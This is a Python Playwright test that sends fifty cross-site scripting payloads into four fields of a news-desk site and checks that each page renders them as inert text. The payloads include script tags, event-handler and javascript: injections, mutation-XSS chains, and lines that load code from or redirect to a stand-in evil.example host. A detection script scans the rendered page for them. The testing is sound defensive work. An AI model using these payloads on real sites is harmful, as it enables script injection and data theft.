"""Fifty ways of writing markup into four fields of strangers: each page shows them as text, and nothing else."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from playwright.sync_api import Page

from tests.browser.desk_site import Site

_RUN = ("window.hit=1", "alert(1)", "import(`//evil.example/x.js`)", "location=`//evil.example`", "top.hit=1")
_SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "'><iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>go</a>",
    "</title></textarea></script><script>{}</script>",
    "<style>@import url(//evil.example/x.css);</style><object data='javascript:{}'></object>",
    '" autofocus onfocus="{}',
    "<math><mtext><table><mglyph><style><img src onerror={}>",
    "{{{{ {} }}}} <base href=//evil.example>",
)
PAYLOADS = tuple(shape.format(run) for shape in _SHAPES for run in _RUN)
FOREIGN = """() => {
  const tags = "script, img, iframe, object, embed, base, style, math, link, meta, video, audio, mglyph";
  const body = [...document.body.querySelectorAll(tags)].map((one) => one.outerHTML);
  const all = [...document.querySelectorAll("*")];
  const named = all.flatMap((one) => one.getAttributeNames().filter((name) => /^on|^srcdoc$/.test(name)));
  const goes = ["href", "src", "action", "formaction"];
  const links = all.flatMap((one) => goes.map((name) => one.getAttribute(name) ?? ""));
  const far = links.filter((link) => /^\\s*(javascript|data|vbscript):|^(https?:)?[/][/]evil/i.test(link));
  return [...body, ...named, ...far, ...(window.hit ? ["ran"] : [])];
}"""


def test_fifty_payloads_in_four_fields_stay_text(tmp_path: Path, opened: Callable[..., Page]) -> None:
    assert len(set(PAYLOADS)) == 50
    (tmp_path / "desk").mkdir()
    site = Site(tmp_path / "desk", items=[], hostile=PAYLOADS).start()
    try:
        page = opened("about:blank")
        page.on("dialog", lambda dialog: opened.faults.append(dialog.message))  # type: ignore[attr-defined]
        shown: set[str] = set()

        def look(path: str) -> None:
            page.goto(site.address + path)
            assert page.evaluate(FOREIGN) == [], path
            words = page.evaluate("document.body.textContent")
            shown.update(payload for payload in PAYLOADS if payload in words)

        look("/feeds")
        look(
            str(page.locator("a[rel=next]").get_attribute("href", timeout=5_000))
        )  # Fifty feeds and some are two pages.
        assert shown == set(PAYLOADS)
        shown.clear()
        path, stories = "/", []
        while path:
            look(path)
            stories += [one.get_attribute("href") for one in page.locator("[data-row] h2 a").all()]
            older = page.locator("a[rel=next]")
            path = str(older.get_attribute("href")) if older.count() else ""
        assert len(stories) == 50
        for story in stories:
            look(str(story))
        assert shown == set(PAYLOADS)
        for path in (
            "/search?q=kamal",
            "/sent",
            "/sent/preview?subscription=border",
            "/trends",
            "/why?url=https://h1.example/item-101.html",
        ):
            look(path)
        assert site.desk is not None
        assert site.desk.reports.count == 0
    finally:
        site.stop()
